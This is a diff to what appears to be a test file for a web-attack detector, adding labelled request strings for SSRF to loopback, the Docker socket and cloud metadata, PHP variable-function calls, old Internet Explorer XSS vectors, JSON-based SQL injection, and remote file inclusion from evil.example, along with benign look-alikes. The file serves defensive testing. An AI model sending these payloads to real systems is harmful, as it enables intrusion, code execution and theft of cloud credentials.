@@ -308,6 +308,26 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['sqli-numeric-tautology', '/item?id=1%20or%201%23'],
   ['sqli-numeric-tautology', '/item?id=1%20and%200x61646d696e=0x61646d696e'],
   ['sqli-keyword', '/item?id=1%20PROCEDURE%20ANALYSE()'],
+  // Loopback and metadata without a scheme, as the SSRF bypass lists write them; PHP's other predefined
+  // variables, and a variable function behind a comment or in brackets.
+  ['generic-ssrf-internal-host', '/fetch?url=ip6-localhost/'],
+  ['generic-ssrf-internal-host', '/fetch?url=host.docker.internal:2375/containers/json'],
+  ['generic-cloud-metadata', '/fetch?url=169.254.169.254'],
+  ['generic-ssrf-address-forms', '/fetch?url=017700000001/'],
+  ['php-superglobal', '/p?x=$http_response_header'],
+  ['php-variable-function', '/p?x=$a%23x%0a(1)'],
+  ['php-variable-function', '/p?x=($a)(%27id%27)'],
+  // Old Internet Explorer's script vectors, JSON literals with nested brackets and PostgreSQL's jsonb functions,
+  // and more of the parameter names that PHP applications include files from.
+  ['xss-ie-vector', '/s?q=<import%20implementation="x.htc">'],
+  ['xss-ie-vector', '/s?q=<v:vmlframe%20src="x.vml">'],
+  ['xss-ie-vector', '/s?q=x%22%20style=%22behavior:url(%23default%23time2)'],
+  ['xss-ie-vector', '/s?q=x%22%20datasrc=%22%23x'],
+  ['sqli-json-operator', "/a?id=1%20and%20'{\"a\":2,\"c\":[4,{\"f\":7}]}'%20->%20'$.c[1].f'%20=%207"],
+  ['sqli-json-operator', "/a?id=1%20and%20jsonb_typeof('[]')='array'"],
+  ['rfi-include-param', '/a?phpbb_root_path=http://evil.example/'],
+  ['rfi-include-param', '/a?GLOBALS[x]=http://evil.example/'],
+  ['rfi-include-param', '/a?theme_path=https://evil.example/x.txt'],
 ];
 
 /** Attacks in the User-Agent, for the detectors that read only that field. */
@@ -333,6 +353,11 @@ const BENIGN: readonly string[] = [
   '/shop/paper?weight=20+or+24%23',
   '/notes?text=[+]+milk+[x]+bread',
   '/api?x=0x1f%3D0x1f', // a hex value and its equal, with no operator word
+  '/support/kb?q=ip6+localhost+entry+in+hosts', // the words, not a host
+  '/search?q=price+($)+(usd)',
+  '/img?image_path=https://cdn.example/x.png&w=200', // a thumbnailer's source: a URL where one is expected
+  '/settings?implementation=java&lowsrc=1',
+  '/api/items?filter={"tags":["a","b"],"price":{"lt":10}}',
   "/api/acl?path='/*'&verb=read", // a quoted glob, not a comment after a string
   '/go?u=https://cdn.example//assets//app.js', // doubled slashes in an ordinary URL
   '/conference/talks?session=3&track=web', // a session of talks, not a session id
